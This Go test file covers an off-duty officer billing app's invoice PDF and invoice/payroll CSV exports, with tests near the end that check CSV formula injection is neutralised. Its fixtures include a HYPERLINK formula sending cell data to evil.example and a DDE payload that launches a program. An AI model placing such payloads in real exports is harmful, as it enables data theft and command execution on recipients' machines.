package export_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"

	"offduty/store"
	"offduty/ui/export"
)

func dec(s string) decimal.Decimal { return decimal.RequireFromString(s) }

func day(s string) time.Time {
	d, err := time.Parse("2006-01-02", s)
	if err != nil {
		panic(err)
	}
	return d
}

// invoice is an issued December invoice of n lines (n >= 4): a released-
// early shift, a holiday line, a vehicle, a fee, then regular shifts.
func invoice(n int) store.Invoice {
	inv := store.Invoice{ID: 7, Number: "2026-000123", CustomerID: 3, CustomerName: `Hale Centre, "West"`, BillTo: "3601 S 2700 W, West Valley City, UT 84119",
		Email: "ap@hale.example", Cycle: "monthly", PeriodStart: day("2026-12-01"), PeriodEnd: day("2027-01-01"), State: store.InvoiceIssued,
		TermsDays: 30, IssuedOn: day("2027-01-02"), DueOn: day("2027-02-01"), CreatedAt: time.Date(2027, 1, 2, 16, 0, 0, 0, time.UTC)}
	add := func(l store.InvoiceLine) {
		l.Seq = len(inv.Lines) + 1
		l.AdminFee = l.Amount.Sub(l.OfficerPay)
		inv.Lines = append(inv.Lines, l)
		inv.Subtotal = inv.Subtotal.Add(l.Amount)
	}
	add(store.InvoiceLine{Kind: "shift", JobID: 1, PositionID: 1, Day: day("2026-12-08"), Site: "Hale Centre main lot", Officer: "José Núñez WV1702",
		Class: "officer", Basis: "regular", Count: 1, Minutes: 240, Rate: dec("57.00"), Amount: dec("228.00"), OfficerPay: dec("200.00"),
		Description: "released early: full shift"})
	add(store.InvoiceLine{Kind: "shift", JobID: 2, PositionID: 2, Day: day("2026-12-25"), Site: "Hale Centre main lot", Officer: "Ann Lee WV1703",
		Class: "supervisor", Basis: "holiday", Count: 1, Minutes: 131, Rate: dec("85.50"), Amount: dec("186.68"), OfficerPay: dec("163.75")})
	add(store.InvoiceLine{Kind: "vehicle", JobID: 2, Day: day("2026-12-25"), Site: "Hale Centre main lot", Class: "vehicle", Basis: "vehicle", Count: 2,
		Minutes: 240, Rate: dec("1.14"), Amount: dec("9.12"), OfficerPay: dec("8.00")})
	add(store.InvoiceLine{Kind: "fee", JobID: 3, FeeID: 1, Day: day("2026-12-15"), Site: "Hale Centre main lot", Class: "fee", Count: 1,
		Amount: dec("128.00"), OfficerPay: dec("100.00"), Description: "cancellation fee, job #3"})
	for i := 4; i < n; i++ {
		add(store.InvoiceLine{Kind: "shift", JobID: int64(10 + i), PositionID: int64(10 + i), Day: day("2026-12-01").AddDate(0, 0, i%31),
			Site: "Hale Centre east entrance", Officer: fmt.Sprintf("Officer Number%d WVH%04d", i, i), Class: "officer", Basis: "regular", Count: 1,
			Minutes: 247, Rate: dec("57.00"), Amount: dec("234.65"), OfficerPay: dec("205.83")})
	}
	inv.Total = inv.Subtotal
	return inv
}

var pageObj = regexp.MustCompile(`/Type /Page\b[^s]`)

// pdf renders inv and checks it is a PDF of the given number of pages.
func pdf(t *testing.T, inv store.Invoice, pages int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := export.InvoicePDF(&b, inv, export.DefaultOffice); err != nil {
		t.Fatal(err)
	}
	out := b.Bytes()
	if !bytes.HasPrefix(out, []byte("%PDF-")) || !bytes.Contains(out[len(out)-64:], []byte("%%EOF")) {
		t.Fatalf("not a PDF: %q...", out[:min(len(out), 16)])
	}
	if n := len(pageObj.FindAll(out, -1)); n != pages {
		t.Errorf("%d lines: %d pages, want %d", len(inv.Lines), n, pages)
	}
	return out
}

// pdfText is the text of a PDF as pdftotext (poppler-utils) reads it; the
// test is skipped only when the tool is absent.
func pdfText(t *testing.T, doc []byte) string {
	t.Helper()
	tool, err := exec.LookPath("pdftotext")
	if err != nil {
		t.Skip("pdftotext (poppler-utils) is not installed")
	}
	path := filepath.Join(t.TempDir(), "invoice.pdf")
	if err := os.WriteFile(path, doc, 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(tool, "-layout", "-enc", "UTF-8", path, "-").CombinedOutput()
	if err != nil {
		t.Fatalf("pdftotext: %v\n%s", err, out)
	}
	return string(out)
}

func TestInvoicePDF(t *testing.T) {
	inv := invoice(12)
	doc := pdf(t, inv, 1)
	var again bytes.Buffer
	if err := export.InvoicePDF(&again, inv, export.DefaultOffice); err != nil || !bytes.Equal(again.Bytes(), doc) {
		t.Errorf("the same invoice renders differently (err %v)", err)
	}
	text := pdfText(t, doc)
	for _, want := range []string{
		"offduty", "off-duty management office", "INVOICE", "No. 2026-000123", "BILL TO", `Hale Centre, "West"`, "3601 S 2700 W",
		"Jan 2, 2027", "Feb 1, 2027 (net 30 days)", "Dec 1, 2026 - Dec 31, 2026", "monthly",
		"Date", "Site", "Officer / item", "Class", "Hours", "Rate", "Amount",
		"José Núñez WV1702 - released early", "supervisor, holiday", "2:11", "186.68", "2 vehicles", "4:00 x2", "cancellation fee, job #3",
		"Subtotal", "2,429.00", "Total (USD)", "$2,429.00", "Amount due by Feb 1, 2027", "Terms: net 30 days", "page 1 of 1",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("the PDF's text has no %q:\n%s", want, text)
		}
	}
	if !inv.Total.Equal(dec("2429.00")) { // 228 + 186.68 + 9.12 + 128 + 8 x 234.65
		t.Fatalf("fixture total %s", inv.Total)
	}
}

// Long invoices shrink to stay on one page, then paginate with the table
// head repeated and the totals on the last page.
func TestInvoicePDFLength(t *testing.T) {
	for _, c := range []struct{ lines, pages int }{{4, 1}, {30, 1}, {41, 1}, {42, 2}, {60, 2}, {200, 5}} {
		inv := invoice(c.lines)
		doc := pdf(t, inv, c.pages)
		if c.lines != 60 {
			continue
		}
		text := pdfText(t, doc)
		if !strings.Contains(text, "page 2 of 2") || !strings.Contains(text, "(continued)") || strings.Count(text, "Officer / item") != 2 ||
			!strings.Contains(text, "$"+formatMoney(inv.Total)) || !strings.Contains(text, "WVH0059") {
			t.Errorf("a 60-line invoice over 2 pages:\n%s", text)
		}
	}
}

func formatMoney(d decimal.Decimal) string {
	s := d.StringFixed(2)
	i, f, _ := strings.Cut(s, ".")
	var b strings.Builder
	for k, c := range i {
		if k > 0 && (len(i)-k)%3 == 0 {
			b.WriteByte(',')
		}
		b.WriteRune(c)
	}
	return b.String() + "." + f
}

func TestInvoicePDFStates(t *testing.T) {
	draft := invoice(5)
	draft.Number, draft.State, draft.IssuedOn, draft.DueOn = "", store.InvoiceDraft, time.Time{}, time.Time{}
	void := invoice(5)
	void.State, void.VoidReason = store.InvoiceVoid, "billed the wrong site"
	paid := invoice(5)
	paid.State, paid.PaidOn, paid.PaidRef = store.InvoicePaid, day("2027-01-20"), "ACH 0120"
	for _, c := range []struct {
		inv  store.Invoice
		want []string
	}{
		{draft, []string{"DRAFT #7 - not issued", "not issued", "Draft: not yet issued", "invoice #7"}},
		{void, []string{"VOID: billed the wrong site", "Void, nothing is due"}},
		{paid, []string{"paid Jan 20, 2027 (ACH 0120)", "Paid in full on Jan 20, 2027"}},
	} {
		text := pdfText(t, pdf(t, c.inv, 1))
		for _, w := range c.want {
			if !strings.Contains(text, w) {
				t.Errorf("%s invoice: no %q in\n%s", c.inv.State, w, text)
			}
		}
	}
}

func TestInvoiceCSV(t *testing.T) {
	inv := invoice(9)
	var b bytes.Buffer
	if err := export.InvoiceCSV(&b, inv); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(inv.Lines) || strings.Join(rows[0], ",") !=
		"invoice,account,period_start,period_end,line,kind,date,site,officer,class,basis,count,minutes,hours,rate,amount,officer_pay,admin_fee,description" {
		t.Fatalf("%d rows, header %v", len(rows), rows[0])
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	sum, pay, admin := decimal.Zero, decimal.Zero, decimal.Zero
	for i, r := range rows[1:] {
		l := inv.Lines[i]
		if r[col["invoice"]] != "2026-000123" || r[col["account"]] != `Hale Centre, "West"` || r[col["period_end"]] != "2026-12-31" ||
			r[col["line"]] != fmt.Sprint(i+1) || r[col["kind"]] != l.Kind || r[col["officer"]] != l.Officer || r[col["date"]] != l.Day.Format("2006-01-02") ||
			r[col["minutes"]] != fmt.Sprint(l.Minutes) || r[col["description"]] != l.Description {
			t.Errorf("row %d = %v, line %+v", i+1, r, l)
		}
		sum = sum.Add(dec(r[col["amount"]]))
		pay = pay.Add(dec(r[col["officer_pay"]]))
		admin = admin.Add(dec(r[col["admin_fee"]]))
	}
	if !sum.Equal(inv.Total) || !pay.Add(admin).Equal(inv.Total) {
		t.Errorf("amounts add up to %s (officer %s + admin %s), total %s", sum, pay, admin, inv.Total)
	}
}

func TestPayrollCSV(t *testing.T) {
	p := store.Payroll{Start: day("2026-12-07"), End: day("2026-12-21"), Total: dec("478.00")}
	p.Officers = []store.OfficerPay{
		{Officer: store.Officer{ID: 1, Badge: "WV1702", FirstName: "José", LastName: "Núñez"}, Total: dec("203.00"), Lines: []store.PayLine{
			{OfficerID: 1, JobID: 1, PositionID: 1, Kind: "shift", Day: day("2026-12-08"), Customer: "Hale, Centre", Site: "Lot", Class: "officer",
				Minutes: 240, Rate: "50.00", Amount: dec("200.00")},
			{OfficerID: 1, JobID: 1, Kind: "vehicle", Day: day("2026-12-08"), Customer: "Hale, Centre", Site: "Lot", Class: "1 vehicle(s)",
				Minutes: 180, Rate: "1.00", Amount: dec("3.00")},
		}},
		{Officer: store.Officer{ID: 2, Badge: "WV1703", FirstName: "Ann", LastName: "Lee"}, Total: dec("275.00"), Lines: []store.PayLine{
			{OfficerID: 2, JobID: 2, PositionID: 2, Kind: "adjustment", Day: day("2026-11-30"), Customer: "Hale, Centre", Site: "Lot", Class: "officer",
				Minutes: 330, Amount: dec("275.00")},
		}},
	}
	var b bytes.Buffer
	if err := export.PayrollCSV(&b, p); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 || rows[0][0] != "period_start" || rows[0][len(rows[0])-1] != "amount" {
		t.Fatalf("rows %v", rows)
	}
	sum := decimal.Zero
	for _, r := range rows[1:] {
		if r[0] != "2026-12-07" || r[1] != "2026-12-20" || r[7] != "Hale, Centre" {
			t.Errorf("row %v", r)
		}
		sum = sum.Add(dec(r[len(r)-1]))
	}
	if !sum.Equal(p.Total) || rows[1][3] != "José Núñez" || rows[3][4] != "adjustment" || rows[1][11] != "4:00" {
		t.Errorf("sum %s (total %s), rows %v", sum, p.Total, rows)
	}
}

func TestWriteFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "out.csv")
	if err := export.WriteNew(path, func(w io.Writer) error { _, err := io.WriteString(w, "one\n"); return err }); err != nil {
		t.Fatal(err)
	}
	// A failed write leaves the file as it was, and no temporary file.
	boom := errors.New("boom")
	if err := export.WriteNew(path, func(w io.Writer) error { io.WriteString(w, "half"); return boom }); !errors.Is(err, boom) {
		t.Fatalf("WriteFile = %v", err)
	}
	if b, _ := os.ReadFile(path); string(b) != "one\n" {
		t.Errorf("file = %q after a failed write", b)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("%d files left in the folder", len(entries))
	}
	if st, _ := os.Stat(path); st.Mode().Perm()&0o044 == 0 {
		t.Errorf("mode %v: not readable by others", st.Mode())
	}
	if err := export.WriteNew(filepath.Join(dir, "no", "such", "dir.csv"), func(io.Writer) error { return nil }); err == nil {
		t.Error("wrote into a folder that does not exist")
	}
	if export.FileName(invoice(4), "pdf") != "invoice-2026-000123.pdf" {
		t.Errorf("FileName = %s", export.FileName(invoice(4), "pdf"))
	}
}

// hyperlink is an officer's name as an attacker would set it: a spreadsheet
// opening the CSV would send the next cell to evil.example.
const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"Alyssa")`

// dangerous reports a cell a spreadsheet would read as a formula (OWASP).
func dangerous(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// checkCells parses a CSV back and checks every cell: a text column never
// starts with a formula character; a numeric column (numeric[name]) holds a
// plain number, negative ones included.
func checkCells(t *testing.T, data []byte, numeric map[string]bool) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse back: %v\n%s", err, data)
	}
	number := regexp.MustCompile(`^-?\d+(\.\d+)?(/\d+\.\d+)?$|^-?\d+:\d\d$|^$`)
	for i, r := range rows[1:] {
		for k, cell := range r {
			name := rows[0][k]
			switch {
			case numeric[name] && !number.MatchString(cell):
				t.Errorf("row %d, %s = %q: not a plain number", i+1, name, cell)
			case !numeric[name] && dangerous(cell):
				t.Errorf("row %d, %s = %q: a spreadsheet would run it", i+1, name, cell)
			}
		}
	}
	return rows
}

func TestTextCell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{hyperlink, "'" + hyperlink},
		{"+SUM(A1)", "'+SUM(A1)"},
		{"-2+3", "'-2+3"},
		{"@cmd", "'@cmd"},
		{"=1+1", "'=1+1"},
		{"  =1+1", "'=1+1"}, // spaces trimmed first: the = leads
		{"\tx", "x"},        // tab and CR are dropped with the other controls
		{"\rx", "x"},
		{"\t=cmd", "'=cmd"},
		{"\x1b]0;t\x07=cmd", "'=cmd"}, // an escape sequence hides nothing
		{"\u202e=cmd", "'=cmd"},
		{"Valley Fair Mall", "Valley Fair Mall"},
		{"José Núñez", "José Núñez"},
		{"a=b", "a=b"},
		{"12.50", "12.50"},
		{"", ""},
	} {
		got := export.TextCell(c.in)
		if got != c.want {
			t.Errorf("TextCell(%q) = %q, want %q", c.in, got, c.want)
		}
		if dangerous(got) {
			t.Errorf("TextCell(%q) = %q still starts a formula", c.in, got)
		}
	}
}

// CSV injection: names, sites and descriptions that a spreadsheet would run
// come out neutralised with a leading ', while amounts stay plain numbers,
// negative ones too.
func TestInvoiceCSVInjection(t *testing.T) {
	inv := invoice(4)
	inv.CustomerName = `=cmd|' /C calc'!A0`
	inv.Lines[0].Officer = hyperlink
	inv.Lines[0].Site = "+SUM(A1)"
	inv.Lines[0].Description = "@cmd"
	inv.Lines[1].Site = "-2+3"
	inv.Lines[1].Description = "\tx"
	inv.Lines[2].Site = "\rx"
	inv.Lines[3].Description = "-2+3"
	credit := store.InvoiceLine{Seq: 5, Kind: "fee", JobID: 3, Day: day("2026-12-16"), Site: "@site", Class: "fee", Count: 1,
		Amount: dec("-12.50"), OfficerPay: dec("-10.00"), AdminFee: dec("-2.50"), Description: "=credit, job #3"}
	inv.Lines = append(inv.Lines, credit)
	inv.Subtotal = inv.Subtotal.Add(credit.Amount)
	inv.Total = inv.Subtotal
	var b bytes.Buffer
	if err := export.InvoiceCSV(&b, inv); err != nil {
		t.Fatal(err)
	}
	rows := checkCells(t, b.Bytes(), map[string]bool{"line": true, "count": true,
		"minutes": true, "hours": true, "rate": true, "amount": true, "officer_pay": true, "admin_fee": true})
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, c := range []struct {
		row  int
		name string
		want string
	}{
		{1, "account", `'=cmd|' /C calc'!A0`},
		{1, "officer", "'" + hyperlink},
		{1, "site", "'+SUM(A1)"},
		{1, "description", "'@cmd"},
		{2, "site", "'-2+3"},
		{2, "description", "x"},
		{3, "site", "x"},
		{4, "description", "'-2+3"},
		{5, "site", "'@site"},
		{5, "description", "'=credit, job #3"},
		{5, "amount", "-12.50"}, // a number, not text: no quote
		{5, "officer_pay", "-10.00"},
		{5, "admin_fee", "-2.50"},
		{1, "amount", "228.00"},
	} {
		if got := rows[c.row][col[c.name]]; got != c.want {
			t.Errorf("row %d %s = %q, want %q", c.row, c.name, got, c.want)
		}
	}
	sum := decimal.Zero
	for _, r := range rows[1:] {
		sum = sum.Add(dec(r[col["amount"]]))
	}
	if !sum.Equal(inv.Total) {
		t.Errorf("amounts add up to %s, total %s", sum, inv.Total)
	}
}

func TestPayrollCSVInjection(t *testing.T) {
	p := store.Payroll{Start: day("2026-12-07"), End: day("2026-12-21"), Total: dec("187.50")}
	p.Officers = []store.OfficerPay{
		{Officer: store.Officer{ID: 1, Badge: "-WV1702", FirstName: hyperlink}, Total: dec("187.50"), Lines: []store.PayLine{
			{OfficerID: 1, JobID: 1, PositionID: 1, Kind: "shift", Day: day("2026-12-08"), Customer: "+SUM(A1)", Site: "@cmd", Class: "officer",
				Minutes: 240, Rate: "50.00", Amount: dec("200.00")},
			{OfficerID: 1, JobID: 2, PositionID: 2, Kind: "adjustment", Day: day("2026-11-30"), Customer: "-2+3", Site: "\tx", Class: "\rx",
				Minutes: -15, Rate: "50.00", Amount: dec("-12.50")},
		}},
	}
	var b bytes.Buffer
	if err := export.PayrollCSV(&b, p); err != nil {
		t.Fatal(err)
	}
	rows := checkCells(t, b.Bytes(), map[string]bool{"job": true, "minutes": true, "hours": true,
		"rate": true, "amount": true})
	if len(rows) != 3 {
		t.Fatalf("rows %q", rows)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, c := range []struct {
		row        int
		name, want string
	}{
		{1, "officer", "'" + hyperlink},
		{1, "badge", "'-WV1702"},
		{1, "customer", "'+SUM(A1)"},
		{1, "site", "'@cmd"},
		{2, "customer", "'-2+3"},
		{2, "site", "x"},
		{2, "class", "x"},
		{2, "minutes", "-15"},
		{2, "hours", "-0:15"},
		{2, "amount", "-12.50"},
	} {
		if got := rows[c.row][col[c.name]]; got != c.want {
			t.Errorf("row %d %s = %q, want %q", c.row, c.name, got, c.want)
		}
	}
	sum := decimal.Zero
	for _, r := range rows[1:] {
		sum = sum.Add(dec(r[col["amount"]]))
	}
	if !sum.Equal(p.Total) {
		t.Errorf("amounts add up to %s, total %s", sum, p.Total)
	}
}
